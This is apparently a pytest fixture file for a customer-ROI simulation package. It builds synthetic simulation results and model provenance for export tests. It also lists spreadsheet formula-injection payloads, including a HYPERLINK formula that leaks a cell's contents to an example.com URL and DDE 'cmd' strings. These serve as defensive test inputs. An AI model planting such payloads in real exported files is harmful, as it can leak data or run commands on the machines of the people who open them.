"""Hand-made simulation results with known arrays, so every exported number can be checked
against a numpy computation on the same arrays."""

from __future__ import annotations

from collections.abc import Callable, Sequence
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from cxroi.sim.finance import monthly_rate
from cxroi.sim.result import Detail, Paths, Provenance, SimulationResult
from cxroi.sim.scenario import Scenario

MANIFEST = {
    "model_id": "bayes-20260101-000000-abcd",
    "family": "bayes",
    "training_window": {"start": "2023-01", "end": "2025-12"},
    "data_fingerprint": "sha256:0f1e2d3c",
    "diagnostics": {"max_rhat": 1.004, "min_ess_bulk": 812.0, "min_ess_tail": 655.0, "divergences": 0},
    "cxroi_version": "0.1.0",
    "created_at": "2026-01-02T03:04:05+00:00",
    "seed": 11,
}

INJECTION_PAYLOADS = (
    '=HYPERLINK("http://example.com/x?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def make_result(segments: Sequence[str] = ("SMB-EU", "Enterprise-NA", "Consumer-EU"), n_draws: int = 200,
                horizon: int = 6, scenario_name: str = "Portal for SMB", seed: int = 3) -> SimulationResult:
    """A result whose arrays are random but internally consistent (cash flow = incremental
    revenue × margin − spend; levers add up to the discounted margin)."""
    rng = np.random.default_rng(seed)
    shape = (n_draws, len(segments), horizon)
    scenario = Scenario.model_validate({
        "name": scenario_name, "description": "Self-service portal, two years",
        "investments": [{"initiative": "self_service_portal", "segments": list(segments[:2]),
                         "start_month": 1, "duration_months": horizon, "one_off_cost": 50_000.0,
                         "monthly_spend": 12_000.0}],
        "horizon_months": horizon, "annual_discount_rate": 0.08,
        "gross_margin": {"default": 0.7, "segments": {segments[0]: 0.65}},
    })

    def paths(lift: float) -> Paths:
        customers = rng.uniform(900, 1100, shape) * (1 + lift)
        return Paths(customers=customers, churned=customers * rng.uniform(0.01, 0.03, shape),
                     new_customers=rng.uniform(20, 40, shape) * (1 + lift),
                     revenue=customers * rng.uniform(95, 105, shape), customers_end=customers[..., -1])

    baseline, scenario_paths = paths(0.0), paths(0.15)  # about break-even: P(ROI > 0) near 1/2
    spend = np.zeros((len(segments), horizon))
    spend[:2] = 12_000.0
    spend[:2, 0] += 25_000.0
    margin = np.array([0.65, *[0.7] * (len(segments) - 1)])
    rate = monthly_rate(0.08)
    incremental_revenue = scenario_paths.revenue - baseline.revenue
    cash_flow = incremental_revenue * margin[None, :, None] - spend
    discount = (1 + rate) ** -np.arange(1, horizon + 1)
    discounted_margin = (incremental_revenue * margin[None, :, None] * discount).sum(axis=-1)
    shares = {"retention": 0.5, "arpu": 0.3, "acquisition": 0.2}
    provenance = Provenance(
        model_id=MANIFEST["model_id"], family=MANIFEST["family"], training_window=MANIFEST["training_window"],
        data_fingerprint=MANIFEST["data_fingerprint"], diagnostics=MANIFEST["diagnostics"],
        model_cxroi_version=MANIFEST["cxroi_version"], model_created_at=MANIFEST["created_at"],
        seed=MANIFEST["seed"], cxroi_version="0.1.0", simulated_at="2026-02-01T00:00:00+00:00")
    return SimulationResult(
        scenario=scenario, model_id=MANIFEST["model_id"], provenance=provenance, segments=tuple(segments),
        months=pd.date_range("2026-01-01", periods=horizon, freq="MS"), baseline=baseline,
        spend=spend, gross_margin=margin, monthly_rate=rate,
        npv_by_segment=(cash_flow * discount).sum(axis=-1), total_cash_flow=cash_flow.sum(axis=1),
        incremental_revenue_by_month=incremental_revenue.sum(axis=1),
        incremental_revenue_by_segment=incremental_revenue.sum(axis=-1),
        incremental_customers_end=scenario_paths.customers_end - baseline.customers_end,
        terminal_value=np.zeros((n_draws, len(segments))),
        detail_source=lambda: Detail(scenario_paths, incremental_revenue, cash_flow),
        levers_source=lambda: {lever: discounted_margin * share for lever, share in shares.items()})


@pytest.fixture(scope="session")
def result() -> SimulationResult:
    return make_result()


@pytest.fixture(scope="session")
def result_factory() -> Callable[..., SimulationResult]:
    return make_result


@pytest.fixture(scope="session")
def models_dir(tmp_path_factory) -> Path:
    """A models folder whose champion is a small plausible artifact (segments S1…S4, initiatives
    I1, I2), written with registry.save_artifact by the simulation tests' helper."""
    from cxroi import registry
    from cxroi.testing.artifacts import plausible_artifact

    folder = tmp_path_factory.mktemp("models")
    plausible_artifact(folder, model_id="bayes-export-test", n_draws=200)
    registry.promote("bayes-export-test", folder)
    return folder
